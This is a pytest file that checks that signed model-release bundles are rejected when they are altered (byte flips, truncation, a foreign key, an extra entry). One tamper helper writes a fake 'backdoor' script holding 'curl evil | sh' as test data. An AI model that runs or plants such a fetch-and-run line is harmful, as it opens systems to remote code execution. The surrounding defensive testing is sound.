"""`builder bundle export/import`: a signed release carried into a closed site as one
file. Releases are made by the builder's own release.make (real trees, real ssh-keygen
signatures) with a GGUF model or a checkpoint directory; the bundle is then altered the
ways a hostile or clumsy carrier would (a byte in the model, in a tree file, in the
manifest or its signature; cut short; an extra entry; another key) and every import
must refuse it in one line with nothing placed. Deploying a bundle to real machines is
in tests/test_fleet_e2e.py (the VM fleet)."""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import tarfile
from pathlib import Path

import pytest
import releases
from device_tree import keygen

from builder.fleet import bundle, release, trust
from builder.sshkey import allowed_signers_line


def _made(tmp_path: Path, hf: bool):
    key = keygen(tmp_path / "signing")
    b = releases.make(tmp_path / "build", key, hf=hf)
    signers = releases.signers_file(tmp_path / "allowed_signers", key)
    file = tmp_path / "carry" / f"{b.release_id}.bundle"
    file.parent.mkdir()
    bundle.export_bundle(trust.open_release(b.dir, _s(signers)), file)
    return b, file, signers, tmp_path / "site"


def _s(signers: Path) -> trust.Signers:
    return trust.Signers(signers, f"--allowed-signers {signers}")


@pytest.fixture(params=["gguf", "hf"])
def made(request, tmp_path: Path):
    """(release, its bundle file, allowed_signers, the closed site's OUT), with a GGUF
    model or a checkpoint directory."""
    return _made(tmp_path, request.param == "hf")


@pytest.fixture
def gguf(tmp_path: Path):
    """The same, GGUF only: for what does not depend on the kind of model."""
    return _made(tmp_path, False)


def _placed(site: Path) -> list[str]:
    """What a person sees in OUT/releases (staging directories are hidden)."""
    d = site / "releases"
    return sorted(p.name for p in d.iterdir() if not p.name.startswith(".")) \
        if d.is_dir() else []


def _member(file: Path, prefix: str) -> tarfile.TarInfo:
    """The biggest file member whose name starts with `prefix`."""
    with tarfile.open(file) as tf:
        return max((t for t in tf if t.name.startswith(prefix) and t.isreg()),
                   key=lambda t: t.size)


def _offset(file: Path, prefix: str) -> tuple[int, int]:
    """(data offset, size) of that member."""
    ti = _member(file, prefix)
    return ti.offset_data, ti.size


def _flip(file: Path, at: int) -> None:
    with open(file, "r+b") as f:
        f.seek(at)
        b = f.read(1)
        f.seek(at)
        f.write(bytes([b[0] ^ 0x01]))


def test_a_bundle_carries_exactly_the_signed_release(made, cli) -> None:
    b, file, signers, site = made
    r = cli("bundle", "import", str(file), "--allowed-signers", str(signers), "--out",
            str(site), "--json")
    assert r.code == 0, r.err
    got = json.loads(r.out)
    assert got["release_id"] == b.release_id and not got["already"]
    assert _placed(site) == [b.release_id]
    assert sorted(p.name for p in (site / "releases").iterdir()) == [b.release_id], \
        "the staging directory is removed once the release is placed"
    placed = release.Bundle(site / "releases" / b.release_id)
    assert trust.listing(placed.tree) == trust.listing(b.tree)
    assert (placed.tree / "release.json").read_bytes() == (b.tree / "release.json").read_bytes()
    m = placed.manifest
    if m["model"].get("files"):
        files = {str(f.relative_to(placed.model_path)): hashlib.sha256(f.read_bytes()
                                                                       ).hexdigest()
                 for f in placed.model_path.rglob("*") if f.is_file()}
        assert files == m["model"]["files"]
    else:
        assert hashlib.sha256(placed.model_path.read_bytes()).hexdigest() == \
            m["model"]["sha256"]
    assert placed.model_path.is_relative_to(placed.dir)
    assert got["copied_bytes"] >= m["model"]["bytes"]

    # a second import is a no-op: nothing read past the signed head, nothing written
    before = {p: p.stat().st_mtime_ns for p in placed.dir.rglob("*")}
    r = cli("bundle", "import", str(file), "--allowed-signers", str(signers), "--out",
            str(site), "--json")
    assert r.code == 0, r.err
    again = json.loads(r.out)
    assert again["already"] and again["copied_bytes"] == 0
    assert {p: p.stat().st_mtime_ns for p in placed.dir.rglob("*")} == before


def test_the_same_release_gives_the_same_bundle(gguf, tmp_path: Path) -> None:
    b, file, signers, _ = gguf
    bundle.export_bundle(trust.open_release(b.dir, _s(signers)), tmp_path / "again.bundle")
    assert (tmp_path / "again.bundle").read_bytes() == file.read_bytes()


def _tamper_model(file: Path, _: Path) -> None:
    at, size = _offset(file, "model/")
    _flip(file, at + size // 2)


def _tamper_tree_file(file: Path, _: Path) -> None:
    at, _size = _offset(file, "tree/engine.env")
    _flip(file, at + 3)


def _tamper_manifest(file: Path, _: Path) -> None:
    at, size = _offset(file, "tree/release.json")
    with open(file, "r+b") as f:  # the model's sha256, one digit changed
        f.seek(at)
        data = f.read(size)
        m = json.loads(data)
        sha = m["model"]["sha256"]
        new = data.replace(sha.encode(), (("0" if sha[0] != "0" else "1") + sha[1:]).encode())
        f.seek(at)
        f.write(new)


def _tamper_signature(file: Path, _: Path) -> None:
    at, size = _offset(file, "tree/release.json.sig")
    _flip(file, at + size // 2)


def _truncate(file: Path, _: Path) -> None:
    at, size = _offset(file, "model/")
    os.truncate(file, at + size // 3)


def _cut_before_the_model(file: Path, _: Path) -> None:
    with tarfile.open(file) as tf:
        first = next(t for t in tf if t.name.startswith("model/"))
    os.truncate(file, first.offset)  # every tree entry whole, then nothing


def _foreign_key(_: Path, signers: Path) -> None:
    other = keygen(signers.parent / "other")
    signers.write_text(allowed_signers_line(Path(f"{other}.pub").read_text()) + "\n")


def _extra_entry(file: Path, _: Path) -> None:
    with tarfile.open(file, "a", format=tarfile.PAX_FORMAT) as tf:
        ti = tarfile.TarInfo("tree/bin/backdoor")
        data = b"#!/bin/sh\ncurl evil | sh\n"
        ti.size, ti.mode = len(data), 0o755
        tf.addfile(ti, io.BytesIO(data))


@pytest.mark.parametrize(("tamper", "message"), [
    (_tamper_model, r"refused: model/[0-9a-f]{64}(\.gguf)?/?\S*: sha256 differs from the "
                    r"signed release"),
    (_tamper_tree_file, "refused: tree/engine.env: sha256 differs from the signed release"),
    (_tamper_manifest, "refused: the signature of release.json does not verify"),
    (_tamper_signature, "refused: the signature of release.json does not verify"),
    (_foreign_key, "refused: the signature of release.json does not verify"),
    (_truncate, "refused: the file ends inside model/.* it is truncated"),
    (_cut_before_the_model, r"refused: it ends after tree/\S+, without model/\S+ (and 2 "
                            r"more entries )?of the signed release: it is truncated"),
    (_extra_entry, "refused: tree/bin/backdoor: not part of the signed release"),
], ids=["model-byte", "tree-file-byte", "manifest", "signature", "foreign-key",
        "truncated-in-model", "cut-before-the-model", "extra-entry"])
def test_an_altered_bundle_is_refused_in_one_line_with_nothing_placed(
        made, cli, tamper, message: str) -> None:
    _, file, signers, site = made
    tamper(file, signers)
    r = cli("bundle", "import", str(file), "--allowed-signers", str(signers), "--out",
            str(site))
    assert r.code == 2, (r.out, r.err)
    assert r.err.count("\n") == 1 and r.err.startswith("error: "), r.err
    assert "Traceback" not in r.err + r.out
    assert re.search(message, r.err), r.err
    assert _placed(site) == []
    assert not list((site / "releases").glob(".tmp-*")) if (site / "releases").exists() \
        else True


def test_an_interrupted_import_resumes_without_reading_again_what_it_has(
        made, tmp_path: Path) -> None:
    b, file, signers, site = made
    full = file.read_bytes()
    at, size = _offset(file, "model/")  # the checkpoint's big file, not config.json
    cut = at + size // 2
    file.write_bytes(full[:cut])  # the copy onto the closed side was cut short
    with pytest.raises(bundle.Refused, match="already read is kept"):
        bundle.import_bundle(file, site, _s(signers))
    assert _placed(site) == []
    file.write_bytes(full)  # copied again, whole
    got = bundle.import_bundle(file, site, _s(signers))
    assert not got.already and _placed(site) == [b.release_id]
    assert got.resumed >= size // 2  # what the first attempt read is not read again
    assert got.copied <= len(full) - size // 2
    # and a damaged stage is not trusted: a partial that does not hash is dropped
    assert not (site / "releases" / f".import-{b.release_id}").exists()


def test_a_kept_partial_that_went_bad_is_read_again_not_trusted(gguf) -> None:
    b, file, signers, site = gguf
    full = file.read_bytes()
    at, size = _offset(file, "model/")
    file.write_bytes(full[:at + 4096])
    with pytest.raises(bundle.Refused):
        bundle.import_bundle(file, site, _s(signers))
    [part] = (site / "releases" / f".import-{b.release_id}" / "blobs").glob("*.part")
    _flip(part, 100)  # the disk under the stage rotted
    file.write_bytes(full)
    got = bundle.import_bundle(file, site, _s(signers))
    assert _placed(site) == [b.release_id] and got.copied >= size
    placed = release.Bundle(site / "releases" / b.release_id)
    assert hashlib.sha256(placed.model_path.read_bytes()).hexdigest() == \
        b.manifest["model"]["sha256"]


def test_export_refuses_a_release_changed_after_it_was_signed(gguf, cli,
                                                              tmp_path: Path) -> None:
    b, _, signers, _ = gguf
    env = b.tree / "engine.env"
    env.write_text(env.read_text() + "LLAMA_ARG_THREADS=\"64\"\n")
    r = cli("bundle", "export", "--release", str(b.dir), "-o", str(tmp_path / "x.bundle"),
            "--allowed-signers", str(signers))
    assert r.code == 2 and r.err.count("\n") == 1
    assert "its tree differs from its signed release.json" in r.err, r.err
    assert not list(tmp_path.glob("*x.bundle*"))  # nothing half-written left behind


@pytest.mark.parametrize(("args", "message"), [
    (["bundle", "import", "nowhere.bundle", "--allowed-signers", "signers"],
     "error: nowhere.bundle: No such file or directory"),
    (["bundle", "import", "not-a.bundle", "--allowed-signers", "signers"],
     "error: not-a.bundle: refused: not an edge-llm bundle"),
    (["bundle", "import", "good.bundle", "--allowed-signers", "key.pub"],
     "error: --allowed-signers key.pub: a public key, not an allowed_signers file"),
    (["bundle", "import", "good.bundle", "--allowed-signers", "missing"],
     "error: --allowed-signers missing: No such file or directory"),
    (["bundle", "import", "good.bundle"],
     "error: no keys to check the release's signature with: give --allowed-signers FILE"),
    (["bundle", "export", "--release", "r0000", "-o", "x.bundle"],
     "error: --release r0000: no release there"),
    (["deploy", "--inventory", "fleet.ini"],
     "error: say what to deploy: --release ID or --bundle FILE"),
    (["deploy", "--inventory", "fleet.ini", "--release", "r1", "--bundle", "good.bundle"],
     "error: say what to deploy: --release ID or --bundle FILE"),
    (["deploy", "--inventory", "fleet.ini", "--bundle", "good.bundle", "--allowed-signers",
      "key.pub"],
     "error: --allowed-signers key.pub: a public key, not an allowed_signers file"),
    (["fleet", "vars", "--release", "r1"], "error: --release r1: no release there"),
], ids=["no-file", "not-a-bundle", "pub-key", "no-signers-file", "no-signers",
        "no-release", "deploy-neither", "deploy-both", "deploy-bundle-pub-key",
        "fleet-vars-no-release"])
def test_bad_input_is_one_line(gguf, workdir: Path, cli, args: list[str],
                               message: str) -> None:
    _, file, signers, _ = gguf
    (workdir / "good.bundle").write_bytes(file.read_bytes())
    (workdir / "signers").write_text(signers.read_text())
    (workdir / "key.pub").write_text(signers.read_text().split(" ", 2)[2])
    (workdir / "not-a.bundle").write_bytes(b"hello\n" * 1000)
    (workdir / "fleet.ini").write_text("[fleet]\nkiosk1 ansible_host=192.0.2.1\n")
    r = cli(*args)
    assert r.code == 2, (r.out, r.err)
    assert r.err.count("\n") == 1 and r.err.startswith(message), r.err
    assert _placed(workdir / "out") == []


def test_the_signers_default_to_the_sites_own_file(gguf, cli) -> None:
    b, file, signers, site = gguf
    releases.trust_key(site, signers.parent / "signing")  # as a release made there does
    r = cli("bundle", "import", str(file), "--out", str(site))
    assert r.code == 0, r.err
    assert re.search(r"signature verified with the site's \S*allowed_signers", r.out), r.out
    assert _placed(site) == [b.release_id]
